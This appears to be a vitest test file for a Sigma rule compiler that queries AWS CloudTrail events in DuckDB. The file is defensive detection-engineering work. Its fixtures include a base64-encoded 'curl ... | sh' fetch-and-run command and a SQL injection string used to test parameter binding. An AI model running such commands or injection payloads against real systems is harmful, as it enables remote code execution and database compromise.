import type {DuckDBConnection} from '@duckdb/node-api'
import {beforeAll, describe, expect, it} from 'vitest'
import {stringify} from 'yaml'
import {compileRule, tryCompileRule} from '../../../../src/analysis/sigma/compile.js'
import {huntCase} from '../../../../src/analysis/sigma/hunt.js'
import {parseSigmaRule} from '../../../../src/analysis/sigma/parse.js'
import {SigmaCompileError} from '../../../../src/analysis/sigma/rule.js'
import {memoryCase} from '../../../support/sigma-db.js'

const records = [
  {
    eventID: 'r1',
    eventTime: '2024-08-01T10:00:00Z',
    eventName: 'StopLogging',
    eventSource: 'cloudtrail.amazonaws.com',
    sourceIPAddress: '203.0.113.7',
    userAgent: 'aws-cli/2.0 100%_done',
    userIdentity: {type: 'IAMUser', arn: 'arn:aws:iam::111122223333:user/alice', userName: 'alice'},
    requestParameters: {name: 'trail', enable: false, userName: 'alice'},
    resources: [{ARN: 'arn:aws:cloudtrail:us-east-1:111122223333:trail/a', type: 'AWS::CloudTrail::Trail'}],
  },
  {
    eventID: 'r2',
    eventTime: '2024-08-01T10:01:00Z',
    eventName: 'ConsoleLogin',
    eventSource: 'signin.amazonaws.com',
    sourceIPAddress: '2001:db8::42',
    userAgent: 'Mozilla 100 percent done',
    errorCode: null,
    responseElements: {ConsoleLogin: 'Success'},
    additionalEventData: {MFAUsed: 'NO'},
    requestParameters: {'a-b': 'dash', userName: 'bob'},
    userIdentity: {type: 'IAMUser', arn: 'arn:aws:iam::111122223333:user/alice', userName: 'alice'},
  },
  {
    eventID: 'r3',
    eventTime: '2024-08-01T10:02:00Z',
    eventName: 'UpdateFunctionConfiguration20150331v2',
    eventSource: 'lambda.amazonaws.com',
    sourceIPAddress: '10.1.2.3',
    userAgent: 'Boto3/1.34 -execute',
    readOnly: false,
    count: 7,
    requestParameters: {layers: ['arn:aws:lambda:us-east-1:111122223333:layer:evil:1'], enable: 'false', principal: 'events.amazonaws.com'},
    userIdentity: {type: 'AssumedRole', arn: 'arn:aws:sts::111122223333:assumed-role/aws:ec2-instance/i-1'},
  },
  {
    eventID: 'r4',
    eventTime: '2024-08-01T10:03:00Z',
    eventName: 'GetObject',
    eventSource: 's3.amazonaws.com',
    sourceIPAddress: 'AWS Internal',
    userAgent: `it's a "quote" 100x`,
    errorCode: 'AccessDenied',
    readOnly: true,
    count: 12,
    requestParameters: {userData: Buffer.from('#!/bin/bash\ncurl http://198.51.100.9/x | sh').toString('base64')},
  },
  {
    eventID: 'r5',
    eventTime: '2024-08-01T10:04:00Z',
    eventName: 'AddPermission20150331v2',
    eventSource: 'lambda.amazonaws.com',
    sourceIPAddress: '198.51.100.1',
    userAgent: 'Boto3/1.34 /execute',
    requestParameters: {principal: '*', functionName: 'f'},
  },
]

let connection: DuckDBConnection

beforeAll(async () => {
  connection = await memoryCase(records)
})

function rule(detection: Record<string, unknown>, extra: Record<string, unknown> = {}): string {
  return stringify({title: 'Test rule', id: '00000000-0000-4000-8000-000000000001', logsource: {product: 'aws', service: 'cloudtrail'}, detection, level: 'medium', ...extra})
}

/** Compiles the detection, runs it over the test table and returns the ids of matching events. */
async function hits(detection: Record<string, unknown>): Promise<string[]> {
  const parsed = parseSigmaRule(rule(detection), 'test.yml')
  expect(parsed.issues).toEqual([])
  const compiled = compileRule(parsed.rule!)
  const reader = await connection.runAndReadAll(`SELECT event_id FROM cloudtrail_events WHERE ${compiled.sql} ORDER BY event_id`, compiled.params)
  const ids = reader.getRows().map((r) => String(r[0]))
  // The hunt reads the fields once per event for all rules together: it must agree.
  const hunted = await huntCase(connection, {compiled: [compiled]}, {strategy: 'one-scan'})
  expect(hunted.rules[0]!.error).toBeUndefined()
  expect(hunted.hits.map((h) => h.event_id)).toEqual(ids)
  return ids
}

function unsupported(detection: Record<string, unknown>, extra: Record<string, unknown> = {}): {code: string; construct: string} {
  const parsed = parseSigmaRule(rule(detection, extra), 'test.yml')
  const result = tryCompileRule(parsed.rule!)
  if ('compiled' in result) throw new Error(`expected the rule to be unsupported, got ${result.compiled.sql}`)
  return {code: result.unsupported.code, construct: result.unsupported.construct}
}

describe('Sigma values', () => {
  it('matches strings case-insensitively by default and exactly with |cased', async () => {
    expect(await hits({sel: {eventName: 'stoplogging'}, condition: 'sel'})).toEqual(['r1'])
    expect(await hits({sel: {'eventName|cased': 'stoplogging'}, condition: 'sel'})).toEqual([])
    expect(await hits({sel: {'eventName|cased': 'StopLogging'}, condition: 'sel'})).toEqual(['r1'])
  })

  it('reads * and ? as wildcards and \\* as a literal star', async () => {
    expect(await hits({sel: {eventName: 'update*'}, condition: 'sel'})).toEqual(['r3'])
    expect(await hits({sel: {eventName: 'GetObjec?'}, condition: 'sel'})).toEqual(['r4'])
    expect(await hits({sel: {'requestParameters.principal': '*'}, condition: 'sel'})).toEqual(['r3', 'r5'])
    expect(await hits({sel: {'requestParameters.principal': '\\*'}, condition: 'sel'})).toEqual(['r5'])
  })

  it('escapes % and _ so they only match themselves', async () => {
    // Unescaped, '%100%_%' would also match r2 ("100 percent") and r4 ("100x").
    expect(await hits({sel: {'userAgent|contains': '100%_'}, condition: 'sel'})).toEqual(['r1'])
    // Unescaped, '%_done' would also match r2 ("percent done").
    expect(await hits({sel: {'userAgent|endswith': '_done'}, condition: 'sel'})).toEqual(['r1'])
    expect(await hits({sel: {'userAgent|startswith': 'MOZILLA 100'}, condition: 'sel'})).toEqual(['r2'])
  })

  it('treats null as a missing or null field', async () => {
    expect(await hits({sel: {errorCode: null}, condition: 'sel'})).toEqual(['r1', 'r2', 'r3', 'r5'])
    expect(await hits({sel: {errorCode: ['AccessDenied', null]}, condition: 'sel'})).toEqual(['r1', 'r2', 'r3', 'r4', 'r5'])
  })

  it('ORs a list of values, and ANDs it with |all', async () => {
    expect(await hits({sel: {eventName: ['StopLogging', 'getobject']}, condition: 'sel'})).toEqual(['r1', 'r4'])
    expect(await hits({sel: {'userAgent|contains|all': ['aws', 'done']}, condition: 'sel'})).toEqual(['r1'])
    expect(await hits({sel: {'userAgent|contains': ['aws', 'done']}, condition: 'sel'})).toEqual(['r1', 'r2'])
  })

  it('compares numbers and booleans, including booleans stored as strings', async () => {
    expect(await hits({sel: {count: 7}, condition: 'sel'})).toEqual(['r3'])
    expect(await hits({sel: {'count|gt': 10}, condition: 'sel'})).toEqual(['r4'])
    expect(await hits({sel: {'count|lte': 7}, condition: 'sel'})).toEqual(['r3'])
    expect(await hits({sel: {readOnly: false}, condition: 'sel'})).toEqual(['r3'])
    expect(await hits({sel: {'requestParameters.enable': false}, condition: 'sel'})).toEqual(['r1', 'r3'])
  })

  it('runs regular expressions case-sensitively, with the i flag when asked', async () => {
    expect(await hits({sel: {'userIdentity.arn|re': '.+:assumed-role/aws:.+'}, condition: 'sel'})).toEqual(['r3'])
    expect(await hits({sel: {'eventName|re': '^stop'}, condition: 'sel'})).toEqual([])
    expect(await hits({sel: {'eventName|re|i': '^stop'}, condition: 'sel'})).toEqual(['r1'])
    expect(unsupported({sel: {'eventName|re': '^(?!Get)'}, condition: 'sel'})).toEqual({code: 'unsupported-regex', construct: 'regular expression lookaround'})
  })

  it('matches IPv4 and IPv6 networks with |cidr', async () => {
    expect(await hits({sel: {'sourceIPAddress|cidr': '10.0.0.0/8'}, condition: 'sel'})).toEqual(['r3'])
    expect(await hits({sel: {'sourceIPAddress|cidr': '203.0.113.0/24'}, condition: 'sel'})).toEqual(['r1'])
    expect(await hits({sel: {'sourceIPAddress|cidr': '203.0.113.8/29'}, condition: 'sel'})).toEqual([])
    expect(await hits({sel: {'sourceIPAddress|cidr': ['10.0.0.0/8', '198.51.100.0/24']}, condition: 'sel'})).toEqual(['r3', 'r5'])
    expect(await hits({sel: {'sourceIPAddress|cidr': '2001:db8::/32'}, condition: 'sel'})).toEqual(['r2'])
    expect(await hits({sel: {'sourceIPAddress|cidr': '2001:db9::/32'}, condition: 'sel'})).toEqual([])
    expect(await hits({sel: {'sourceIPAddress|cidr': '0.0.0.0/0'}, condition: 'sel'})).toEqual(['r1', 'r3', 'r5'])
  })

  it('tests presence with |exists', async () => {
    expect(await hits({sel: {'errorCode|exists': true}, condition: 'sel'})).toEqual(['r2', 'r4'])
    expect(await hits({sel: {'errorCode|exists': false}, condition: 'sel'})).toEqual(['r1', 'r3', 'r5'])
  })

  it('maps dotted names to JSON paths, quotes odd names, and looks into arrays', async () => {
    expect(await hits({sel: {'additionalEventData.MFAUsed': 'NO', 'responseElements.ConsoleLogin': 'Success'}, condition: 'sel'})).toEqual(['r2'])
    expect(await hits({sel: {'requestParameters.a-b': 'dash'}, condition: 'sel'})).toEqual(['r2'])
    expect(await hits({sel: {'resources.ARN|endswith': 'trail/a'}, condition: 'sel'})).toEqual(['r1'])
    expect(await hits({sel: {'requestParameters.layers': 'arn:aws:lambda:us-east-1:111122223333:layer:evil:1'}, condition: 'sel'})).toEqual(['r3'])
    expect(await hits({sel: {'requestParameters.layers|contains': '*'}, condition: 'sel'})).toEqual(['r3'])
    // An object is matched as its JSON text.
    expect(await hits({sel: {'requestParameters|contains': '"functionName":"f"'}, condition: 'sel'})).toEqual(['r5'])
  })

  it('compares two fields with |fieldref', async () => {
    expect(await hits({sel: {'userIdentity.userName|fieldref': 'requestParameters.userName'}, condition: 'sel'})).toEqual(['r1'])
    expect(await hits({sel: {'userIdentity.arn|fieldref|endswith': 'requestParameters.userName'}, condition: 'sel'})).toEqual(['r1'])
  })

  it('decodes |base64offset|contains and |windash variants', async () => {
    expect(await hits({sel: {'requestParameters.userData|base64offset|contains': 'curl http'}, condition: 'sel'})).toEqual(['r4'])
    expect(await hits({sel: {'requestParameters.userData|base64offset|contains': 'wget http'}, condition: 'sel'})).toEqual([])
    expect(await hits({sel: {'userAgent|windash|contains': ' -execute'}, condition: 'sel'})).toEqual(['r3', 'r5'])
  })

  it('searches the whole record for keywords, case-insensitively', async () => {
    expect(await hits({keywords: ['EVIL:1'], condition: 'keywords'})).toEqual(['r3'])
    expect(await hits({keywords: ['evil', 'ConsoleLogin'], condition: 'keywords'})).toEqual(['r2', 'r3'])
    expect(await hits({keywords: 'nothing-like-this', condition: 'keywords'})).toEqual([])
  })
})

describe('Sigma conditions', () => {
  const selections = {
    sel_lambda: {eventSource: 'lambda.amazonaws.com'},
    sel_internal: {sourceIPAddress: 'AWS Internal'},
    filter_perm: {'eventName|startswith': 'AddPermission'},
  }

  it('combines with and, or, not and parentheses', async () => {
    expect(await hits({...selections, condition: 'sel_lambda and not filter_perm'})).toEqual(['r3'])
    expect(await hits({...selections, condition: 'sel_lambda or sel_internal'})).toEqual(['r3', 'r4', 'r5'])
    expect(await hits({...selections, condition: 'not (sel_lambda or sel_internal)'})).toEqual(['r1', 'r2'])
    expect(await hits({...selections, condition: 'not sel_lambda or sel_internal'})).toEqual(['r1', 'r2', 'r4'])
    expect(await hits({...selections, condition: '(sel_lambda and filter_perm) or sel_internal'})).toEqual(['r4', 'r5'])
  })

  it('expands 1 of / all of over name patterns and them', async () => {
    expect(await hits({...selections, condition: '1 of sel_*'})).toEqual(['r3', 'r4', 'r5'])
    expect(await hits({...selections, condition: 'all of sel_*'})).toEqual([])
    expect(await hits({...selections, condition: 'all of them'})).toEqual([])
    expect(await hits({...selections, condition: '1 of them'})).toEqual(['r3', 'r4', 'r5'])
    expect(await hits({sel_a: {eventSource: 'lambda.amazonaws.com'}, sel_b: {'eventName|startswith': 'add'}, condition: 'all of sel_*'})).toEqual(['r5'])
    expect(await hits({...selections, condition: 'sel_lambda and not 1 of filter_*'})).toEqual(['r3'])
  })

  it('lets a negated selection match events where its field is missing', async () => {
    expect(await hits({sel: {'userIdentity.type': 'AssumedRole'}, condition: 'not sel'})).toEqual(['r1', 'r2', 'r4', 'r5'])
  })

  it('reports correlations and placeholders as unsupported, naming the construct', () => {
    expect(unsupported({sel: {eventName: 'x'}, condition: 'sel | count() by sourceIPAddress > 5'})).toEqual({code: 'unsupported-aggregation', construct: 'count() aggregation'})
    expect(unsupported({a: {eventName: 'x'}, b: {eventName: 'y'}, condition: 'a | near b'})).toEqual({code: 'unsupported-near', construct: 'near'})
    expect(unsupported({a: {eventName: 'x'}, b: {eventName: 'y'}, timeframe: '5m', condition: 'a and b'})).toEqual({code: 'unsupported-timeframe', construct: 'timeframe'})
    expect(unsupported({a: {'src_ip|expand': '%ranges%'}, condition: 'a'})).toEqual({code: 'unsupported-placeholder', construct: "modifier 'expand'"})
    expect(unsupported({a: {'eventName|utf16le': 'x'}, condition: 'a'})).toEqual({code: 'unsupported-modifier', construct: "modifier 'utf16le'"})
    expect(unsupported({a: {eventName: 'x'}, condition: 'a'}, {logsource: {product: 'windows', category: 'process_creation'}})).toEqual({code: 'unsupported-logsource', construct: 'logsource windows/process_creation'})
  })

  it('rejects broken conditions as errors', () => {
    const parsed = parseSigmaRule(rule({sel: {eventName: 'x'}, condition: 'sel and missing'}), 'test.yml')
    expect(() => compileRule(parsed.rule!)).toThrow(SigmaCompileError)
    const result = tryCompileRule(parseSigmaRule(rule({sel: {eventName: 'x'}, condition: 'sel and (sel'}), 'test.yml').rule!)
    expect('unsupported' in result && [result.unsupported.code, result.unsupported.severity]).toEqual(['invalid-condition', 'error'])
  })
})

describe('values are bound, never spliced', () => {
  it('keeps attacker strings out of the SQL text and matches them literally', async () => {
    const hostile = `x' OR 1=1 OR eventName LIKE '%`
    const parsed = parseSigmaRule(rule({sel: {'userAgent|contains': [hostile, `it's a "quote"`]}, condition: 'sel'}), 'test.yml')
    const compiled = compileRule(parsed.rule!)
    expect(compiled.sql).not.toContain('OR 1=1')
    expect(compiled.sql).not.toContain('quote')
    expect(compiled.sql).not.toContain('userAgent')
    expect(compiled.params).toContain('$.userAgent')
    expect(compiled.params.some((p) => typeof p === 'string' && p.includes('OR 1=1'))).toBe(true)
    expect(compiled.sql.split('?').length - 1).toBe(compiled.params.length)
    expect(await hits({sel: {'userAgent|contains': [hostile, `it's a "quote"`]}, condition: 'sel'})).toEqual(['r4'])
  })
})
